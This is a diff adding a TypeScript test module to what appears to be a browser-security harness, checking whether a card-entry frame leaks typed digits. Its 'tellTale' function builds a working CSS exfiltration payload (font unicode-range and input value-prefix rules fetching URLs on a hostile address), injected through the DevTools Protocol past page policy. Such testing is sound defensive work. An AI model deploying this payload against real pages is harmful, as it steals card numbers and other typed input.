@@ -1,0 +1,44 @@
+import type { CDPSession, Frame, Page } from 'playwright'
+import type { Arena } from '../arena.ts'
+import { BREACH, type Attack } from '../attack.ts'
+
+/** Rules that ask the attacker for a file for each digit that is shown, and for each that a value begins with. */
+const tellTale = (address: string): string =>
+  Array.from(
+    { length: 10 },
+    (_, digit) => `@font-face { font-family: told; src: url(${address}/font-${digit}); unicode-range: U+3${digit} }
+input[value^="${digit}"] { background: url(${address}/value-${digit}) !important }`,
+  ).join('\n') + '\ninput { font-family: told !important }'
+
+/** Puts a style sheet into a document past its policy, as the extensions of a browser do. */
+async function inject(page: Page, into: Frame | Page, text: string): Promise<CDPSession> {
+  const session = await page.context().newCDPSession(into)
+  const { frameTree } = await session.send('Page.getFrameTree')
+  await session.send('DOM.enable')
+  await session.send('CSS.enable')
+  const { styleSheetId } = await session.send('CSS.createStyleSheet', { frameId: frameTree.frame.id })
+  await session.send('CSS.setStyleSheetText', { styleSheetId, text })
+  return session
+}
+
+/** Whether such a style sheet in a document tells the attacker what is typed there. */
+export async function tellsDigits({ hostile }: Arena, page: Page, into: Frame | Page, path: string): Promise<boolean> {
+  const session = await inject(page, into, tellTale(hostile.unlisted + path))
+  await into.evaluate(async () => {
+    while (![...document.fonts].some(({ status }) => status === 'loaded' || status === 'error'))
+      await new Promise(requestAnimationFrame)
+  })
+  await page.waitForTimeout(200)
+  await session.detach()
+  return hostile.received.some((line) => line.includes(path))
+}
+
+export const injectedStyle: Attack = {
+  name: 'injected style',
+  does: 'puts a style sheet into the frame, as an extension would, that asks for a file for each digit',
+  async run(arena, { page }) {
+    const frame = page.frames().find((one) => one.url().endsWith('/card'))!
+    const isTold = await tellsDigits(arena, page, frame, '/styled')
+    return isTold ? [`${BREACH}the frame asked the attacker for files`] : []
+  },
+}
